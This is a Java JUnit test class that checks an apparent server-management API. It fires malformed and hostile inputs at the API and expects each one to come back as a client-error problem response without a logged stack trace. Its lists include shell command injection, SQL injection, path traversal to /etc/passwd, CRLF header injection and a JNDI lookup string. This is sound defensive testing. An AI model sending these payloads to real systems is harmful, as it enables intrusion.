package dev.holdfast.api.web;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import dev.holdfast.api.testing.Fixtures;
import dev.holdfast.api.testing.Http;
import dev.holdfast.api.testing.RawHttp;
import dev.holdfast.api.testing.TestPlatform;
import dev.holdfast.schemas.catalogue.Catalogue;
import dev.holdfast.schemas.operation.OperationType;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;
import tools.jackson.databind.node.StringNode;

/**
 * Many of each kind of input that once was an error of ours: the answer is the client's mistake, as
 * a problem document, and the log has no stack trace of it.
 */
final class HostileInputsTest {
  private static final TestPlatform PLATFORM = TestPlatform.get();
  private static final Http OWNER = PLATFORM.owner();
  private static final String TOKEN = "Authorization: Bearer " + OWNER.token();

  private final ListAppender<ILoggingEvent> log = new ListAppender<>();
  private final List<String> wrong = new ArrayList<>();

  @BeforeEach
  void listen() {
    log.start();
    root().addAppender(log);
  }

  @AfterEach
  void check() {
    root().detachAppender(log);
    assertThat(wrong).isEmpty();
    // What Temporal's client tells of platforms that other tests have stopped is not about
    // requests.
    List<ILoggingEvent> ours =
        log.list.stream()
            .filter(event -> !event.getLoggerName().startsWith("io.temporal"))
            .toList();
    assertThat(ours)
        .filteredOn(event -> event.getLevel().isGreaterOrEqual(Level.ERROR))
        .extracting(ILoggingEvent::getFormattedMessage)
        .isEmpty();
    assertThat(ours)
        .filteredOn(event -> event.getThrowableProxy() != null)
        .filteredOn(event -> event.getLevel().isGreaterOrEqual(Level.INFO))
        .extracting(ILoggingEvent::getFormattedMessage)
        .isEmpty();
  }

  @Test
  void shouldRefuseParametersThatCannotBeRead() throws IOException {
    List<String> queries =
        List.of(
            "=",
            "=x",
            "=&=",
            "&=x",
            "%=x",
            "%f=x",
            "%ff=x",
            "%ff%fe=%fd",
            "a=%",
            "a=%z",
            "a=%zz",
            "a=%ff",
            "a=%c3",
            "a=%c3%28",
            "a=%ed%a0%80",
            "a=%f8%88%80%80%80",
            "a=%c0%af",
            "server=%00",
            "server=a%00b",
            "server=a%0ab",
            "server=a%0d%0aX:%20y",
            "%00=x",
            "limit=%00",
            "cursor=%00",
            "since=%00",
            "by=%00",
            "label=%00%3d%00");
    try (var raw = new RawHttp(PLATFORM.config().api().port())) {
      for (String path : List.of("/api/v1/servers", "/api/v1/audit", "/api/v1/events")) {
        for (String query : queries) {
          RawHttp.Answer answer = raw.send("GET", path + "?" + query, TOKEN);
          // Some are well-formed after all, and simply find nothing.
          refused(path + "?" + query, answer, query.equals("=") || query.equals("=&="));
        }
      }
    }
  }

  @Test
  void shouldRefusePathsThatCannotBeRead() throws IOException {
    List<String> names =
        List.of(
            "%2f",
            "%2F..",
            "..%2f",
            "%2e%2e",
            "%5c",
            "%00",
            "a%00",
            "%ff",
            "%",
            "%zz",
            ";x=1",
            "a;b",
            "a%3b",
            "//",
            "a//b",
            "..",
            "%252e%252e",
            "%c0%ae",
            "a%0d%0ab",
            "%09",
            "a%7f",
            "%EF%BF%BF");
    try (var raw = new RawHttp(PLATFORM.config().api().port())) {
      for (String name : names) {
        for (String path :
            List.of("/api/v1/servers/" + name, "/api/v1/operations/" + name + "/logs")) {
          RawHttp.Answer answer = raw.send("GET", path, TOKEN);
          refused(path, answer, false);
        }
      }
    }
  }

  @Test
  void shouldRefuseTimesThatAreNone() {
    for (String since :
        List.of(
            "x",
            "-",
            "+",
            "0",
            "1e9",
            "NaN",
            "99999999999999999999",
            "P1Y",
            "PT-1S",
            "PT99999999999999999999H",
            "%2B1000000000-12-31T23:59:59Z",
            "-1000000000-01-01T00:00:00Z",
            "%2B999999999-12-31T23:59:59Z",
            "-999999999-01-01T00:00:00Z",
            "2026-13-01T00:00:00Z",
            "2026-02-30T00:00:00Z",
            "2026-01-01T25:00:00Z",
            "2026-01-01",
            "2026-01-01T00:00:00",
            "2026-01-01T00:00:00%2B99:99",
            "20260101T000000Z",
            "now",
            "null")) {
      for (String list : List.of("/api/v1/audit", "/api/v1/operations")) {
        refused(list + "?since=" + since, OWNER.get(list + "?since=" + since));
      }
    }
  }

  @Test
  void shouldRefuseCursorsThatAreNotFromHere() {
    for (String made :
        List.of(
            "",
            "x",
            "null",
            "{}",
            "[]",
            "[null]",
            "[null,null]",
            "[1,2]",
            "[[],[]]",
            "[\"x\"]",
            "[\"x\",\"y\"]",
            "[\"x\",\"y\",\"z\"]",
            "[\"+999999999-01-01T00:00:00Z\",\"y\"]",
            "[\"2026-01-01T00:00:00Z\",\"\\u0000\"]",
            "[\"2026-01-01T00:00:00Z\",{}]",
            "[\"infinity\",\"y\"]",
            "9223372036854775808",
            "-1",
            "[9223372036854775808]",
            "\\u0000",
            "[\"" + "a".repeat(5_000) + "\",\"y\"]")) {
      String cursor =
          Base64.getUrlEncoder()
              .withoutPadding()
              .encodeToString(made.getBytes(StandardCharsets.UTF_8));
      for (String list :
          List.of(
              "/api/v1/audit",
              "/api/v1/operations",
              "/api/v1/servers",
              "/api/v1/incidents",
              "/api/v1/events")) {
        for (String sent : List.of(cursor, "!" + cursor, cursor + "%3d%3d")) {
          Http.Answer answer = OWNER.get(list + "?cursor=" + sent);
          // One that reads as another of its kind pages on from there; it never fails.
          if (answer.status() != 200) {
            refused(list + " " + made, answer);
          }
        }
      }
    }
  }

  @Test
  void shouldRefuseNullsAndOtherTypesWhereverTheyAre() {
    OWNER.post("/api/v1/servers", Fixtures.server("hostile"));
    Stream.of(
            "null",
            "[]",
            "1",
            "true",
            "\"x\"",
            "",
            "{",
            "{\"labels\":}",
            "{\"labels\":null,}",
            "{\"labels\":{\"a\":[]}}",
            "{\"labels\":{\"\":\"x\"}}",
            "{\"labels\":[null]}",
            "{\"labels\":{\"a\":{}}}",
            "{\"port\":\"x\"}",
            "{\"port\":null,\"x\":1}",
            "{\"port\":1e99}",
            "{\"port\":-1}",
            "{\"address\":[]}",
            "{\"address\":{}}",
            "{\"address\":\"\\u0000\"}",
            "{\"user\":\"a\\u0000b\"}",
            "{\"user\":[null]}",
            "{\"region\":{}}",
            "{\"authorities\":[null]}",
            "{\"authorities\":{\"a\":1}}",
            "{\"revoked\":[[]]}")
        .forEach(body -> refused("PATCH " + body, OWNER.patch("/api/v1/servers/hostile", body)));
    Stream.of(
            "null",
            "[null]",
            "{}",
            "{\"type\":null}",
            "{\"type\":[]}",
            "{\"type\":\"\\u0000\"}",
            "{\"type\":\"exec\"}",
            "{\"type\":\"exec\",\"selector\":null}",
            "{\"type\":\"exec\",\"selector\":[]}",
            "{\"type\":\"exec\",\"selector\":\"\"}",
            "{\"type\":\"exec\",\"selector\":\"\\u0000\"}",
            "{\"type\":\"exec\",\"selector\":\"all\",\"input\":null}",
            "{\"type\":\"exec\",\"selector\":\"all\",\"input\":[null]}",
            "{\"type\":\"exec\",\"selector\":\"all\",\"input\":{\"command\":[null]}}",
            "{\"type\":\"exec\",\"selector\":\"all\",\"input\":{\"command\":[\"a\\u0000b\"]}}",
            "{\"type\":\"exec\",\"selector\":\"all\",\"input\":{\"command\":[\"ls\"],\"env\":{\"A\":null}}}",
            "{\"type\":\"exec\",\"selector\":\"all\",\"waves\":[null]}",
            "{\"type\":\"exec\",\"selector\":\"all\",\"waves\":[{}]}",
            "{\"type\":\"exec\",\"selector\":\"all\",\"set\":[null]}",
            "{\"type\":\"exec\",\"selector\":\"all\",\"set\":[{\"path\":[null]}]}",
            "{\"type\":\"exec\",\"selector\":\"all\",\"overrides\":[]}",
            "{\"type\":\"exec\",\"selector\":\"all\",\"concurrency\":\"x\"}",
            "{\"type\":\"exec\",\"selector\":\"all\",\"maxFailures\":\"101%\"}",
            "{\"type\":\"exec\",\"selector\":\"all\",\"priority\":null,\"priority\":7}")
        .forEach(body -> refused("POST " + body, OWNER.post("/api/v1/operations", body)));
  }

  /** Every string of every operation's example in turn: none is more than a wrong field. */
  @Test
  void shouldAnswerHostileStringsInEveryFieldOfEveryOperationAsAProblem() {
    List<String> hostile =
        List.of(
            "$(touch /var/tmp/injected)",
            "';touch /var/tmp/injected;'",
            "a\ntouch /var/tmp/injected",
            "x'); drop table servers; --",
            "../../../../etc/passwd",
            "a\r\nX-Injected: yes",
            "a\u0000b",
            "${jndi:ldap://192.0.2.1/x}{{7*7}}",
            "%s%n%x",
            "\ud800",
            "secret://../x#y",
            "\u202e" + "a".repeat(70_000));
    JsonMapper json = new JsonMapper();
    int asked = 0;
    for (OperationType operation : Catalogue.operations()) {
      JsonNode example = json.readTree(operation.example());
      for (String path : strings(example, "")) {
        for (String text : hostile) {
          ObjectNode request = json.createObjectNode();
          request.put("type", operation.name()).put("selector", "there-is-no-such-server");
          request.set("input", with(example, path, text));
          refused(
              operation.name() + path + " " + text.substring(0, Math.min(30, text.length())),
              OWNER.post("/api/v1/operations", request));
          asked++;
        }
      }
    }
    assertThat(asked).isGreaterThan(300);
  }

  /** JSON Pointers to all strings. */
  private static List<String> strings(JsonNode node, String at) {
    if (node.isString()) {
      return List.of(at);
    }
    List<String> found = new ArrayList<>();
    if (node.isObject()) {
      node.properties()
          .forEach(it -> {
            String key = it.getKey().replace("~", "~0").replace("/", "~1");
            found.addAll(strings(it.getValue(), at + "/" + key));
          });
    } else if (node.isArray()) {
      for (int i = 0; i < node.size(); i++) {
        found.addAll(strings(node.get(i), at + "/" + i));
      }
    }
    return found;
  }

  private static JsonNode with(JsonNode example, String path, String text) {
    JsonNode changed = example.deepCopy();
    int last = path.lastIndexOf('/');
    String name = path.substring(last + 1).replace("~1", "/").replace("~0", "~");
    switch (changed.at(path.substring(0, last))) {
      case ObjectNode object -> object.put(name, text);
      case ArrayNode array -> array.set(Integer.parseInt(name), StringNode.valueOf(text));
      default -> throw new IllegalArgumentException(path);
    }
    return changed;
  }

  private void refused(String what, Http.Answer answer) {
    if (answer.status() < 400 || answer.status() > 499 || answer.text("code").isEmpty()) {
      wrong.add(what + " -> " + answer.status() + " " + answer.body());
    }
  }

  private void refused(String what, RawHttp.Answer answer, boolean orFine) {
    boolean problem = answer.status() >= 400 && answer.status() <= 499 && answer.isProblem();
    if (!problem && !(orFine && answer.status() == 200)) {
      wrong.add(what + " -> " + answer.status() + " " + answer.body());
    }
  }

  private static Logger root() {
    return (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
  }
}
